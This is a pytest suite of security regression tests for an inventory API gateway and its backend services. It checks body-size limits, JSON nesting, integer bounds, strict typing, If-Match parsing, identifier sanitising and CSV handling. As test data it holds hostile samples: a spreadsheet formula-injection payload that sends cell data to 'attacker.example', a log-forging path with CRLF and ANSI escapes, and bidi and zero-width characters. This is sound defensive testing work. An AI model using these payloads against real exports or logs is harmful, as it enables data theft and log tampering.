"""Issue 12, points 7-9: hostile input through the real gateway app and real backend services.

The gateway app runs in-process (Flask test client); catalog, inventory and channels are the
real gRPC servers on 127.0.0.1:0 over their own PostgreSQL databases (NUL in text is a
PostgreSQL error, so these run on PostgreSQL), channels with fake connectors. Every test here is
a regression test for a finding of the fuzzing run (issue 12, point 9): each failed on the code
before the fix with a 500, a coerced value, or a stored reference to nothing.
"""

from __future__ import annotations

import csv
import io
import json
import logging
import uuid
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from typing import Any

import pytest
from flask import Flask
from flask.testing import FlaskClient

from catalog.config import load_settings as load_catalog_settings
from catalog.server import build as build_catalog
from catalog.server import with_port
from channels.config import load_settings as load_channels_settings
from channels.server import build as build_channels
from gateway.app import create_app
from gateway.config import Settings
from inventory.config import load_settings as load_inventory_settings
from inventory.server import build as build_inventory
from omnistock_devtools.fake_connector import GOOD_KEY, GOOD_SECRET, FakeConnector, serve_fake
from omnistock_devtools.migrated import migrate
from omnistock_devtools.testing import TEST_REDIS_URL, postgres_databases

pytestmark = [pytest.mark.postgres, pytest.mark.redis]

PASSWORD = "correct-horse-battery"
API = "/api/v1"
INT64_MAX = 2**63 - 1
PROBLEM = "application/problem+json"


# ------------------------------------------------------------------------------------ the stack
@dataclass
class Stack:
    app: Flask
    client: FlaskClient

    def tenant(self) -> dict[str, str]:
        """A fresh tenant's owner: the Authorization header."""
        email = f"owner-{uuid.uuid4().hex[:10]}@input.test"
        response = self.client.post(
            f"{API}/auth/register",
            json={"tenant_name": f"T {email}", "email": email, "password": PASSWORD},
        )
        assert response.status_code == 201, response.json
        return {"Authorization": f"Bearer {response.json['access_token']}"}


@pytest.fixture(scope="module")
def pg_databases(postgres_admin_url: str) -> Iterator[Callable[[], str]]:
    """Module-wide PostgreSQL databases (one per service), dropped at the end."""
    with postgres_databases(postgres_admin_url, "omnistock_sec") as create:
        yield create


@pytest.fixture(scope="module")
def stack(pg_databases: Callable[[], str]) -> Iterator[Stack]:
    import redis

    redis_client = redis.Redis.from_url(TEST_REDIS_URL)
    redis_client.flushdb()
    urls = {name: pg_databases() for name in ("gateway", "catalog", "inventory", "channels")}
    for name, url in urls.items():
        migrate(name, url)
    inventory = build_inventory(
        load_inventory_settings(
            {"INVENTORY_DATABASE_URL": urls["inventory"], "INVENTORY_GRPC_PORT": "0", "LOG_LEVEL": "WARNING"}
        )
    )
    inventory_addr = f"127.0.0.1:{inventory.port}"
    catalog_settings = load_catalog_settings(
        {"CATALOG_DATABASE_URL": urls["catalog"], "INVENTORY_ADDR": inventory_addr}
    )
    catalog = build_catalog(with_port(catalog_settings, "127.0.0.1", 0))
    catalog_addr = f"127.0.0.1:{catalog.port}"
    fakes = [
        serve_fake(FakeConnector(channel_type="shopify")),
        serve_fake(FakeConnector(channel_type="woocommerce")),
    ]
    channels = build_channels(
        load_channels_settings(
            {
                "CHANNELS_DATABASE_URL": urls["channels"],
                "CHANNELS_GRPC_PORT": "0",
                "REDIS_URL": TEST_REDIS_URL,
                "LOG_LEVEL": "WARNING",
                "CATALOG_ADDR": catalog_addr,
                "OAUTH_STATE_SECRET": "security-test-state-secret-0123456789",
                "PUBLIC_BASE_URL": "http://gateway.test",
                "SHOPIFY_CONNECTOR_ADDR": f"127.0.0.1:{fakes[0].port}",
                "WOOCOMMERCE_CONNECTOR_ADDR": f"127.0.0.1:{fakes[1].port}",
                # The fake store below lives on loopback: allowed explicitly (issue 12, point 1).
                "CHANNEL_ALLOWED_HOSTS": "127.0.0.1:*",
            }
        )
    )
    settings = Settings(
        database_url=urls["gateway"],
        redis_url=TEST_REDIS_URL,
        jwt_secret="security-test-jwt-secret-" + "s" * 32,
        catalog_addr=catalog_addr,
        inventory_addr=inventory_addr,
        channels_addr=f"127.0.0.1:{channels.port}",
        backends={"catalog": catalog_addr},
        argon2_time_cost=1,
        argon2_memory_kib=1024,
        argon2_parallelism=1,
        grpc_timeout_seconds=30.0,
        # Many tenants register from one test client: the per-IP limits are not tested here.
        login_max_attempts_per_ip=10_000,
        register_max_per_ip=10_000,
    )
    app = create_app(settings)
    try:
        yield Stack(app, app.test_client())
    finally:
        app.extensions["omnistock"].close()
        channels.stop()
        for running in fakes:
            running.server.stop(None).wait()
        catalog.stop()
        inventory.stop()
        redis_client.flushdb()
        redis_client.close()


@pytest.fixture
def client(stack: Stack) -> FlaskClient:
    return stack.client


@pytest.fixture
def auth(stack: Stack) -> dict[str, str]:
    return stack.tenant()


def is_problem(response: Any, status: int) -> bool:
    return response.status_code == status and response.mimetype == PROBLEM


def fields(response: Any) -> list[str]:
    return [error["field"] for error in response.json.get("errors") or []]


def create_product(
    client: FlaskClient, auth: dict[str, str], *skus: str, title: str = "Thing"
) -> dict[str, Any]:
    variants = [{"sku": sku, "price": {"amount": "5.00", "currency": "USD"}} for sku in skus]
    response = client.post(f"{API}/products", json={"title": title, "variants": variants}, headers=auth)
    assert response.status_code == 201, response.json
    return response.json


def stock(client: FlaskClient, auth: dict[str, str], sku: str) -> dict[str, Any]:
    response = client.get(f"{API}/inventory/{sku}", headers=auth)
    assert response.status_code == 200, response.json
    return response.json


# ------------------------------------------------------------------------------------ body limits
def test_a_2_mib_json_body_to_login_is_413_without_being_parsed(client: FlaskClient) -> None:
    # Not even valid JSON: a parser would say 400; the size check answers before any parsing.
    body = b"{" + b" " * (2 * 1024 * 1024)
    response = client.post(f"{API}/auth/login", data=body, content_type="application/json")
    assert is_problem(response, 413), (response.status_code, response.data[:200])
    assert response.json["max_bytes"] == 1024 * 1024


def test_an_oversized_body_to_an_authenticated_route_is_413_before_authentication(
    client: FlaskClient,
) -> None:
    body = json.dumps({"sku": "X", "delta": 1, "reason": "received", "note": "n" * (1024 * 1024)})
    response = client.post(f"{API}/inventory/adjustments", data=body, content_type="application/json")
    assert is_problem(response, 413)


class RecordingStream(io.BytesIO):
    """A request body that remembers whether anything read it."""

    touched = False

    def read(self, size: int | None = -1) -> bytes:
        self.touched = True
        return super().read(size)

    def readline(self, size: int | None = -1) -> bytes:
        self.touched = True
        return super().readline(size)


def test_an_unauthenticated_request_is_refused_before_its_body_is_read(client: FlaskClient) -> None:
    payload = json.dumps({"sku": "X", "delta": 1, "reason": "received"}).encode()
    stream = RecordingStream(payload)
    response = client.post(
        f"{API}/inventory/adjustments",
        input_stream=stream,
        content_type="application/json",
        headers={"Content-Length": str(len(payload))},
    )
    assert is_problem(response, 401)
    assert not stream.touched


# ------------------------------------------------------------------------------------ nesting
@pytest.mark.parametrize("path", ["/auth/login", "/auth/register", "/inventory/adjustments"])
def test_100000_deep_json_is_a_400_not_a_recursion_error(
    client: FlaskClient, auth: dict[str, str], path: str
) -> None:
    body = '{"sku": ' + "[" * 100_000 + "]" * 100_000 + "}"
    response = client.post(f"{API}{path}", data=body, content_type="application/json", headers=auth)
    assert is_problem(response, 400), (response.status_code, response.data[:300])
    assert "nested" in response.json["detail"]


def test_json_deeper_than_the_limit_but_parseable_is_a_400(client: FlaskClient) -> None:
    body = '{"email": ' + "[" * 40 + "]" * 40 + ', "password": "x"}'
    response = client.post(f"{API}/auth/login", data=body, content_type="application/json")
    assert is_problem(response, 400)
    assert "nested" in response.json["detail"]


# ------------------------------------------------------------------------------------ integer bounds
HUGE = 2**63


def _integer_cases() -> list[tuple[str, str, str, Callable[[int], Any], str]]:
    """(id, method, path, body(n), field named in the 400) for every integer field of point 9."""
    return [
        ("adjust-delta", "POST", "/inventory/adjustments", lambda n: {"sku": "INT-A", "delta": n, "reason": "received"}, "delta"),
        ("adjust-set", "POST", "/inventory/adjustments", lambda n: {"sku": "INT-A", "set": n, "reason": "received"}, "set"),
        ("batch-delta", "POST", "/inventory/adjustments/batch", lambda n: {"items": [{"sku": "INT-A", "delta": n, "reason": "received"}]}, "items[0].delta"),
        ("reserve-quantity", "POST", "/reservations", lambda n: {"order_ref": "o-1", "lines": [{"sku": "INT-A", "quantity": n}]}, "lines[0].quantity"),
        ("reserve-ttl", "POST", "/reservations", lambda n: {"order_ref": "o-1", "lines": [{"sku": "INT-A", "quantity": 1}], "ttl_seconds": n}, "ttl_seconds"),
        ("threshold", "PUT", "/inventory/INT-A/threshold", lambda n: {"low_stock_threshold": n}, "low_stock_threshold"),
        ("allocation-buffer", "PUT", "/channels/{connection}/allocation", lambda n: {"buffer": n}, "buffer"),
        ("allocation-max", "PUT", "/channels/{connection}/allocation", lambda n: {"max_quantity": n}, "max_quantity"),
        ("bundle-quantity", "PUT", "/bundles/INT-BUNDLE", lambda n: {"components": [{"sku": "INT-A", "quantity": n}]}, "components[0].quantity"),
    ]  # fmt: skip


@pytest.mark.parametrize(
    ("method", "path", "body", "field"),
    [c[1:] for c in _integer_cases()],
    ids=[c[0] for c in _integer_cases()],
)
@pytest.mark.parametrize("value", [HUGE, 10**30, -(2**63) - 1])
def test_integers_beyond_int64_are_a_400_naming_the_field(
    client: FlaskClient,
    auth: dict[str, str],
    method: str,
    path: str,
    body: Callable[[int], Any],
    field: str,
    value: int,
) -> None:
    response = client.open(
        f"{API}{path.format(connection='no-such')}", method=method, json=body(value), headers=auth
    )
    assert is_problem(response, 400), (response.status_code, response.json)
    assert field in fields(response), response.json


def test_commit_quantity_beyond_int64_is_a_400_naming_the_field(
    client: FlaskClient, auth: dict[str, str]
) -> None:
    create_product(client, auth, "INT-C")
    assert (
        client.post(
            f"{API}/inventory/adjustments",
            json={"sku": "INT-C", "set": 5, "reason": "received"},
            headers=auth,
        ).status_code
        == 200
    )
    held = client.post(
        f"{API}/reservations",
        json={"order_ref": "o-c", "lines": [{"sku": "INT-C", "quantity": 2}]},
        headers=auth,
    )
    assert held.status_code == 201, held.json
    response = client.post(
        f"{API}/reservations/{held.json['id']}/commit",
        json={"lines": [{"sku": "INT-C", "quantity": HUGE}]},
        headers=auth,
    )
    assert is_problem(response, 400), response.json
    assert "lines[0].quantity" in fields(response)
    assert stock(client, auth, "INT-C")["on_hand"] == 5


def test_a_price_of_2_pow_63_minor_units_is_a_400_naming_the_price(
    client: FlaskClient, auth: dict[str, str]
) -> None:
    too_big = {"amount": "92233720368547758.08", "currency": "USD"}  # 2**63 cents
    response = client.post(
        f"{API}/products",
        json={"title": "Gold", "variants": [{"sku": "GOLD-1", "price": too_big}]},
        headers=auth,
    )
    assert is_problem(response, 400), response.json
    assert "variants[0].price" in fields(response)
    assert client.get(f"{API}/products?sku=GOLD-1", headers=auth).json["items"] == []


def _upload(client: FlaskClient, auth: dict[str, str], content: bytes) -> Any:
    return client.post(
        f"{API}/products/import",
        data={"file": (io.BytesIO(content), "products.csv")},
        content_type="multipart/form-data",
        headers=auth,
    )


def test_a_csv_price_of_2_pow_63_is_a_row_error_and_the_good_rows_are_imported(
    client: FlaskClient, auth: dict[str, str]
) -> None:
    content = (
        b"product_title,sku,price,currency\n"
        b"Mug,CSV-MUG,8.00,USD\n"
        b"Gold,CSV-GOLD,92233720368547758.08,USD\n"
        b"Cap,CSV-CAP,12.50,USD\n"
    )
    response = _upload(client, auth, content)
    assert response.status_code == 200, response.json
    report = response.json
    assert (report["created"], report["rows"]) == (2, 3)
    assert [(e["row"], e["column"]) for e in report["errors"]] == [(3, "price")]
    skus = {
        v["sku"] for p in client.get(f"{API}/products", headers=auth).json["items"] for v in p["variants"]
    }
    assert skus == {"CSV-MUG", "CSV-CAP"}


# ------------------------------------------------------------------------------------ strict types
@pytest.mark.parametrize("delta", [True, "3", 3.0, "1e2", None])
def test_delta_is_a_json_integer_never_coerced(client: FlaskClient, auth: dict[str, str], delta: Any) -> None:
    response = client.post(
        f"{API}/inventory/adjustments",
        json={"sku": "STRICT-1", "delta": delta, "reason": "received"},
        headers=auth,
    )
    assert is_problem(response, 400), response.json
    listed = client.get(f"{API}/inventory?sku=STRICT-1", headers=auth).json["items"]
    assert listed == []


def test_booleans_are_not_numbers_and_numbers_are_not_booleans(
    client: FlaskClient, auth: dict[str, str]
) -> None:
    as_string = client.post(
        f"{API}/locations", json={"code": "STR-1", "name": "S", "is_default": "true"}, headers=auth
    )
    assert is_problem(as_string, 400) and "is_default" in fields(as_string)
    quantity = client.post(
        f"{API}/reservations",
        json={"order_ref": "o", "lines": [{"sku": "A", "quantity": True}]},
        headers=auth,
    )
    assert is_problem(quantity, 400) and "lines[0].quantity" in fields(quantity)


# ------------------------------------------------------------------------------------ If-Match
@pytest.mark.parametrize(
    ("if_match", "status"),
    [
        ('"' + "9" * 30 + '"', 412),  # beyond int64: matches no version
        ('"' + "7" * 5000 + '"', 412),  # more digits than int() converts
        ('"\u0663"', 400),  # ARABIC-INDIC DIGIT THREE: isdigit(), but not an ETag
        ('"\u00b9"', 400),  # SUPERSCRIPT ONE: isdigit(), int() fails
        ('"1" junk', 400),
        ('""3""', 400),
        ('"0"', 400),
    ],
)
def test_if_match_is_parsed_strictly(
    client: FlaskClient, auth: dict[str, str], if_match: str, status: int
) -> None:
    product = create_product(client, auth, f"IFM-{uuid.uuid4().hex[:8]}")
    url = f"{API}/products/{product['id']}"
    response = client.patch(url, json={"title": "Changed"}, headers={**auth, "If-Match": if_match})
    assert is_problem(response, status), (response.status_code, response.json)
    assert client.get(url, headers=auth).json["title"] == "Thing"
    deleted = client.delete(url, headers={**auth, "If-Match": if_match})
    assert is_problem(deleted, status)
    assert client.get(url, headers=auth).status_code == 200


# ------------------------------------------------------------------------------------ references
def _connect_woo(client: FlaskClient, auth: dict[str, str]) -> str:
    body = {
        "type": "woocommerce",
        "name": "Woo",
        "settings": {"store_url": "http://127.0.0.1:9", "api_base_url": "http://127.0.0.1:9"},
        "credentials": {"consumer_key": GOOD_KEY, "consumer_secret": GOOD_SECRET},
    }
    response = client.post(f"{API}/channels", json=body, headers=auth)
    assert response.status_code == 201, response.json
    return str(response.json["id"])


def test_allocation_only_for_the_tenants_own_existing_connections(client: FlaskClient, stack: Stack) -> None:
    owner, other = stack.tenant(), stack.tenant()
    create_product(client, owner, "ALLOC-1")
    assert (
        client.post(
            f"{API}/inventory/adjustments",
            json={"sku": "ALLOC-1", "set": 9, "reason": "received"},
            headers=owner,
        ).status_code
        == 200
    )
    mine = _connect_woo(client, owner)
    theirs = _connect_woo(client, other)

    for connection in ("no-such-connection", theirs, str(uuid.uuid4())):
        response = client.put(f"{API}/channels/{connection}/allocation", json={"buffer": 1}, headers=owner)
        assert is_problem(response, 404), (connection, response.status_code, response.json)
    listed = stock(client, owner, "ALLOC-1")["channels"]
    assert theirs not in {c["connection_id"] for c in listed}
    assert "no-such-connection" not in {c["connection_id"] for c in listed}

    ok = client.put(f"{API}/channels/{mine}/allocation", json={"buffer": 1}, headers=owner)
    assert ok.status_code == 200, ok.json


def test_a_bundle_of_unknown_skus_is_refused_naming_them(client: FlaskClient, auth: dict[str, str]) -> None:
    create_product(client, auth, "BUN-TEE")
    response = client.put(
        f"{API}/bundles/BUN-SET",
        json={"components": [{"sku": "BUN-TEE", "quantity": 1}, {"sku": "BUN-GHOST", "quantity": 2}]},
        headers=auth,
    )
    assert is_problem(response, 400), response.json
    assert fields(response) == ["components[1].sku"]
    assert "BUN-GHOST" in response.json["detail"]
    assert stock(client, auth, "BUN-SET")["is_bundle"] is False


# ------------------------------------------------------------------------------------ identifiers
@pytest.mark.parametrize(
    "code",
    [
        "WH\x00EAST",
        "WH\nEAST",
        "WH\rEAST",
        "WH\tEAST",
        "WH\x1b[31m",
        "WH\u202eTSAE",
        "WH\u200bEAST",
        "WH\u2066X\u2069",
        "\ufeffWH",
    ],
)
def test_control_bidi_and_zero_width_characters_in_location_codes_are_refused(
    client: FlaskClient, auth: dict[str, str], code: str
) -> None:
    before = client.get(f"{API}/locations", headers=auth).json["items"]
    response = client.post(
        f"{API}/locations", json={"code": code, "name": "Evil", "is_default": True}, headers=auth
    )
    assert is_problem(response, 400), response.json
    assert fields(response) == ["code"]
    assert client.get(f"{API}/locations", headers=auth).json["items"] == before


@pytest.mark.parametrize("sku", ["TEE\x00M", "TEE\u202eM", "TEE\u200dM", "TEE\x7fM"])
def test_skus_with_nul_control_bidi_or_zero_width_are_a_400_everywhere(
    client: FlaskClient, auth: dict[str, str], sku: str
) -> None:
    adjust = client.post(
        f"{API}/inventory/adjustments", json={"sku": sku, "delta": 1, "reason": "received"}, headers=auth
    )
    assert is_problem(adjust, 400) and fields(adjust) == ["sku"]
    product = client.post(
        f"{API}/products",
        json={"title": "T", "variants": [{"sku": sku, "price": {"amount": "1", "currency": "USD"}}]},
        headers=auth,
    )
    assert is_problem(product, 400) and fields(product) == ["variants[0].sku"]
    query = client.get(f"{API}/inventory", query_string={"sku": sku}, headers=auth)
    assert is_problem(query, 400)


def test_nul_anywhere_in_text_or_paths_is_a_400_not_a_postgres_500(
    client: FlaskClient, auth: dict[str, str]
) -> None:
    title = client.post(
        f"{API}/products",
        json={
            "title": "Mu\x00g",
            "variants": [{"sku": "NUL-1", "price": {"amount": "1", "currency": "USD"}}],
        },
        headers=auth,
    )
    assert is_problem(title, 400) and fields(title) == ["title"]
    path = client.get(f"{API}/products/abc%00def", headers=auth)
    assert is_problem(path, 400) and fields(path) == ["product_id"]
    search = client.get(f"{API}/products", query_string={"q": "a\x00b"}, headers=auth)
    assert is_problem(search, 400) and fields(search) == ["query.q"]
    key = client.post(
        f"{API}/inventory/adjustments",
        json={"sku": "NUL-2", "delta": 1, "reason": "received"},
        headers={**auth, "Idempotency-Key": "k\u202ey"},
    )
    assert is_problem(key, 400) and fields(key) == ["Idempotency-Key"]


def test_identifiers_are_nfc_normalised(client: FlaskClient, auth: dict[str, str]) -> None:
    decomposed = "CAFE\u0301-1"  # E + COMBINING ACUTE ACCENT
    composed = "CAF\u00c9-1"
    created = client.post(
        f"{API}/inventory/adjustments",
        json={"sku": decomposed, "delta": 2, "reason": "received"},
        headers=auth,
    )
    assert created.status_code == 200, created.json
    assert created.json["sku"] == composed
    assert stock(client, auth, composed)["on_hand"] == 2
    assert stock(client, auth, decomposed)["on_hand"] == 2  # the path parameter is normalised too


# ------------------------------------------------------------------------------------ CSV import/export
def test_200000_bad_csv_rows_give_a_capped_report(client: FlaskClient, auth: dict[str, str]) -> None:
    rows = "".join(f"Bad,BAD-{i},not-a-price\n" for i in range(200_000))
    response = _upload(client, auth, ("product_title,sku,price\n" + rows).encode())
    assert response.status_code == 200, response.json
    report = response.json
    assert report["rows"] == 200_000 and report["created"] == 0
    assert len(report["errors"]) == 1000
    assert report["errors_not_listed"] == 199_000
    assert [e["row"] for e in report["errors"][:2]] == [2, 3]
    assert len(response.data) < 200_000


def test_csv_export_neutralises_formulas_and_reimports_unchanged(
    client: FlaskClient, auth: dict[str, str]
) -> None:
    evil = ['=HYPERLINK("http://attacker.example/?x="&A1,"click")', "+1+2", "-2+3", "@SUM(A1)"]
    for i, title in enumerate(evil):
        create_product(client, auth, f"FX-{i}", title=title)
    exported = client.get(f"{API}/products/export", headers=auth)
    assert exported.status_code == 200
    table = list(csv.reader(io.StringIO(exported.data.decode())))
    titles = {row[1]: row[0] for row in table[1:]}
    for i, title in enumerate(evil):
        assert titles[f"FX-{i}"] == "'" + title
    for row in table[1:]:
        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row), row
    again = _upload(client, auth, exported.data)
    assert again.status_code == 200, again.json
    assert (again.json["unchanged"], again.json["created"], again.json["updated"]) == (4, 0, 0)


# ------------------------------------------------------------------------------------ HTTP layer
def test_a_newline_in_the_path_does_not_forge_an_access_log_line(
    client: FlaskClient, caplog: pytest.LogCaptureFixture
) -> None:
    with caplog.at_level(logging.INFO, logger="gateway.access"):
        client.get(f"{API}/nothing%0A127.0.0.1%20GET%20/api/v1/admin%20200%0D%1B[2J")
    lines = [record.getMessage() for record in caplog.records if record.name == "gateway.access"]
    assert lines, "no access log record"
    assert all("\n" not in line and "\r" not in line and "\x1b" not in line for line in lines), lines
    assert any("\\x0a127.0.0.1" in line for line in lines)


@pytest.mark.parametrize(
    ("method", "path", "status"),
    [
        ("GET", "/no/such/route", 404),
        ("DELETE", f"{API}/auth/login", 405),
        ("GET", f"{API}/inventory/" + "S" * 20_000, 401),
    ],
)
def test_errors_of_the_http_layer_are_problem_json(
    client: FlaskClient, method: str, path: str, status: int
) -> None:
    response = client.open(path, method=method)
    assert is_problem(response, status), (response.status_code, response.mimetype)
